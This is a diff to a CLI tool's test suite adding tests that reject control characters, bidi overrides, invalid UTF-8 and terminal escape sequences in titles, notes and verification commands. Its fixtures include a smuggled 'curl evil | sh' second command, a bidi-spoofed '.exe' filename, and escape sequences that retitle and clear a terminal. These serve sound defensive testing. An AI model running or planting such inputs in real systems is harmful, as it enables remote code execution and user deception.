@@ -1,8 +1,10 @@
 /** Bad input is rejected with the contract's exit code and a message naming the problem, and changes nothing. */
 import assert from "node:assert/strict";
 import { after, before, describe, it } from "node:test";
+import { spawnSync } from "node:child_process";
+import { writeFileSync } from "node:fs";
 import Database from "better-sqlite3";
-import { sandbox, type Sandbox } from "../helpers/cli.ts";
+import { CLI, sandbox, type Sandbox } from "../helpers/cli.ts";
 
 function dump(db: string): string {
   const conn = new Database(db, { readonly: true });
@@ -53,6 +55,10 @@ describe("bad input", () => {
     ["unknown WO", ["get", "--id", "99"], 4, /WO-99 does not exist/],
     ["non-holder update", ["update", "--id", "1", "--title", "mine"], 3, /claimed by holder/],
     ["non-writable --db path", ["list", "--db", "/proc/no/such/dir/ledger.db"], 7, /cannot use ledger/],
+    ["bidi override in a title (issue 13)", ["create", "--title", "safe\u202egnp.exe"], 2, /title: must be a single line without control characters or bidi overrides/],
+    ["C1 control in a verification command", ["create", "--title", "x", "--verification", "npm test\u009b31m"], 2, /verification: must be a single line/],
+    ["newline hiding a second command in verification", ["create", "--title", "x", "--verification", "npm test\ncurl evil | sh"], 2, /verification: must be a single line/],
+    ["lone surrogate in a batch", ["create", "--from", "-"], 2, /items\[0\]\.title: must be valid Unicode text/, '[{"title":"\\ud800"}]'],
     ["serve on a port that cannot exist", ["serve", "--port", "70000"], 2, /port: must be a whole number from 0 to 65535/],
   ];
 
@@ -71,6 +77,45 @@ describe("bad input", () => {
       assert.equal(dump(s.db), before_);
     });
   }
+
+  it("bytes that are not UTF-8 are refused (exit 2) in arguments, files and stdin, not stored as U+FFFD (issue 13)", () => {
+    const bad = `${s.dir}/bad.json`;
+    writeFileSync(bad, Buffer.concat([Buffer.from('[{"title":"a'), Buffer.from([0xff, 0xfe]), Buffer.from('"}]')]));
+    const env = { ...process.env, ...s.env, WORKLEDGER_AGENT: "intruder", WORKLEDGER_PROJECT: "p" };
+    // Node cannot pass such bytes as an argument itself: a shell's printf writes them.
+    const viaShell = (script: string) => spawnSync("sh", ["-c", script, process.execPath, CLI, bad], { env, encoding: "utf8" });
+    for (const [script, field] of [
+      [`exec "$0" "$1" create --json --title "a$(printf '\\377')b"`, "title"],
+      [`exec "$0" "$1" create --json --from "$2"`, "from"],
+      [`printf 'x\\377y' | "$0" "$1" add-note --json --id 1`, "body"],
+    ] as const) {
+      const r = viaShell(script);
+      assert.equal(r.status, 2, r.stdout + r.stderr);
+      assert.match(JSON.parse(r.stdout).error.message, new RegExp(`${field}: not valid UTF-8 text`));
+    }
+    // A real U+FFFD typed as text is text.
+    assert.equal(s.run(["create", "--title", "a\ufffdb", "--json", "-p", "q", "--agent", "o", "--db", `${s.dir}/other.db`]).json.title, "a\ufffdb");
+    assert.equal(dump(s.db), before_);
+  });
+
+  it("human output shows stored terminal escapes as text instead of sending them (issue 13)", () => {
+    const db = `${s.dir}/legacy.db`;
+    const env = { WORKLEDGER_AGENT: "old", WORKLEDGER_PROJECT: "p", WORKLEDGER_DB: db };
+    s.run(["create", "--title", "t"], { env });
+    s.run(["context-put", "-m", "x"], { env });
+    // A ledger written before the schemas refused escapes in these fields.
+    const conn = new Database(db);
+    const esc = "\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202e";
+    conn.prepare("UPDATE context SET body = ?, git = ?").run(`body${esc}`, JSON.stringify({ head: `abc${esc}`, branch: `main${esc}`, dirty: false }));
+    conn.prepare("UPDATE work_orders SET title = ?, description = ?").run(`title${esc}`, `desc${esc}`);
+    conn.close();
+    for (const args of [["context-pull"], ["context-pull", "--history"], ["get", "--id", "1"], ["list"]]) {
+      const r = s.run(args, { env });
+      assert.equal(r.code, 0, r.stderr);
+      assert.doesNotMatch(r.stdout, /[\u0007\u001b\u009b\u202e]/, args.join(" "));
+      assert.match(r.stdout, /\\u\{1b\}/, args.join(" "));
+    }
+  });
 
   it("no command at all is a usage error (exit 2), not help with exit 0", () => {
     const r = s.run(["--json"]);
